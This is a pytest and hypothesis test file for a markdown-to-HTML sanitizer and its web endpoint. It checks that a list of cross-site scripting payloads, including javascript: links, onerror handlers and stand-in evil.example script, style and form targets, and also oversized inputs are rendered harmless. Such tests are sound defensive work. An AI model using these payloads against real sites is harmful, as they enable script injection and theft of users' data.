"""What comes out is nothing but what is allowed, whatever goes in."""

import json
import re
from html.parser import HTMLParser
from typing import Any

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from manyminds.router.policy import POLICIES
from manyminds.web.app import App, Edge
from manyminds.web.markdown import LONGEST, SCHEMES, TAGS, html_of
from tests.clock import run
from tests.network import network
from tests.web.client import Reply, call

REL = {"rel": "noopener noreferrer nofollow", "target": "_blank"}


class Seen(HTMLParser):
    """What a browser would find."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.links: list[str] = []
        self.text = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in TAGS
        self.tags.append(tag)
        said = dict(attrs)
        assert len(said) == len(attrs)
        if tag == "a":
            assert {name: said.pop(name, None) for name in REL} == REL
            if "href" in said:
                self.links.append(said["href"] or "")
                assert self.links[-1].partition(":")[0].lower() in SCHEMES
        assert said.keys() <= TAGS[tag]
        for name in ("class", "start", "align"):
            assert re.fullmatch(r"[\w+#.-]*", said.get(name) or "", re.ASCII)

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_comment(self, data: str) -> None:
        raise AssertionError("a comment")

    def handle_decl(self, decl: str) -> None:
        raise AssertionError("a declaration")

    def handle_pi(self, data: str) -> None:
        raise AssertionError("an instruction")


HOSTILE = [
    "<script>alert(1)</script>",
    "<ScRiPt/src=//evil.example>",
    "<img src=x onerror=alert(1)>",
    '![x](x" onerror="alert(1))',
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "![x](https://evil.example/seen.png)",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#10;script:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](\u0001javascript:alert(1))",
    "[x](javascript\u200b:alert(1))",
    "[x](javascript\uff1aalert(1))",
    "[x](vbscript:msgbox)",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x](/v1/admin/ledger)",
    "[x](blob:https://a.example/1)",
    "<javascript:alert(1)>",
    "<svg onload=alert(1)><animate onbegin=alert(1)></svg>",
    "<math><mi xlink:href=javascript:alert(1)>",
    "<style>*{background:url(//evil.example)}</style>",
    "<link rel=stylesheet href=//evil.example>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<form action=//evil.example><input name=key><button>Go</button></form>",
    "<object data=x></object><embed src=x><base href=//evil.example>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<a href='https://a.example' onclick='alert(1)' style='x'>x</a>",
    "<p style='position:fixed'>x</p>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<<script>script>alert(1)<</script>/script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "<\u0000script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    '```"><script>alert(1)</script>\nx\n```',
    '``` x" onmouseover="alert(1)\nx\n```',
    "~~~<img src=x onerror=alert(1)>\nx\n~~~",
    "`<script>`",
    "|a|\n|:-:|\n|<img src=x onerror=alert(1)>|",
    "[a]: javascript:alert(1)\n\n[a]",
    "[a]: https://a.example '\"><script>alert(1)</script>'\n\n[a]",
    '[x](https://a.example "\\" onmouseover=alert(1)")',
    "[![x](javascript:alert(1))](javascript:alert(1))",
    '<https://a.example/"onmouseover=alert(1)>',
    "999999999999. x",
    "\u202e<script>\u202calert(1)",
    "\ud800<script>",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_what_is_hostile_is_harmless(text: str) -> None:
    for around in ("{}", "> - {}", "**{}**", "[{}](https://a.example)", "# {}", "1. {}\n\n   {}"):
        seen = Seen(html_of(around.format(*[text] * around.count("{}")).encode("utf-8", "replace").decode()))
        assert not [link for link in seen.links if "script:" in link.lower().partition("//")[0]]


PIECES = [
    *HOSTILE,
    *"[]()<>!*_`~#|&;:\"'\\/\n\t >-+=",
    "](",
    "javascript:",
    "https://a.example",
    "**",
    "\n\n",
    "a",
]


@given(st.lists(st.one_of(st.sampled_from(PIECES), st.text(max_size=4)), max_size=12).map("".join))
@example("[a](<b>\n> c")
def test_nothing_but_what_is_allowed_comes_out(text: str) -> None:
    Seen(html_of(text.encode("utf-8", "replace").decode()))
    assert html_of("") == ""


def test_what_is_meant_is_shown() -> None:
    table = "|a|b|\n|-|-:|\n|1|2|"
    words = "# Hi\n\n**b** *i* ~~s~~ `c` [x](https://a.example)"
    html = html_of(f"{words}\n\n{table}\n\n```python\n1 < 2\n```\n\n3. a\n4. b")
    seen = Seen(html)
    for tag in ("h1", "strong", "em", "s", "code", "a", "table", "th", "td", "pre", "ol", "li"):
        assert tag in seen.tags
    assert '<td align="right">2</td>' in html
    assert '<code class="language-python">1 &lt; 2\n' in html
    assert '<ol start="3">' in html
    assert seen.links == ["https://a.example"]
    assert "<p>&lt;b&gt;x&lt;/b&gt;</p>" in html_of("<b>x</b>")


MANY = {
    "brackets": "[" * LONGEST,
    "links in links": "[" * 50_000 + "]" * 50_000,
    "quotations": ">" * LONGEST,
    "lists": "- " * 50_000,
    "lists in quotations": ("> - " * 60 + "\n") * 400,
    "emphasis": "*_" * 50_000,
    "a large table": "|a" * 300 + "|\n" + "|-" * 300 + "|\n" + ("|a" * 5 + "|\n") * 8_000,
    "one address named often": "[a]: https://a.example/" + "y" * 50_000 + "\n\n" + "[a]" * 15_000,
    "ticks": "".join("`" * i + " " for i in range(1, 440)),
    "references": "[\n" * 50_000,
}


@pytest.mark.parametrize("text", MANY.values(), ids=MANY)
def test_what_takes_too_much_is_shown_as_it_is(text: str) -> None:
    html = html_of(text[:LONGEST])
    assert len(html) < 25 * LONGEST
    seen = Seen(html)
    assert seen.text


def test_too_deep_is_plain_text_and_loses_no_word() -> None:
    assert html_of("> " * 200 + "deep & low") == "<pre>" + "&gt; " * 200 + "deep &amp; low</pre>"
    assert "<pre>" not in html_of("> " * 20 + "deep")


def post(fields: Any) -> Reply:
    body = fields if isinstance(fields, bytes) else json.dumps(fields).encode()
    return run(call(App(Edge(network(), POLICIES, list, lambda: True, 10**6)), "POST", "/v1/markdown", body))


def test_the_endpoint_formats() -> None:
    reply = post({"text": "*hi* \N{CAT FACE}"})
    assert reply.status == 200
    assert json.loads(reply.body) == {"html": "<p><em>hi</em> \N{CAT FACE}</p>\n"}
    assert post({"text": "\N{CAT FACE}" * LONGEST}).status == 200


@pytest.mark.parametrize(
    ("fields", "status"),
    [
        *((wrong, 400) for wrong in (b"", b"{", {}, {"text": 7}, {"text": "x" * (LONGEST + 1)})),
        (b" " * 2_000_000, 413),
    ],
)
def test_what_is_no_text_is_refused(fields: Any, status: int) -> None:
    reply = post(fields)
    assert reply.status == status
    assert json.loads(reply.body)["error"]["message"]
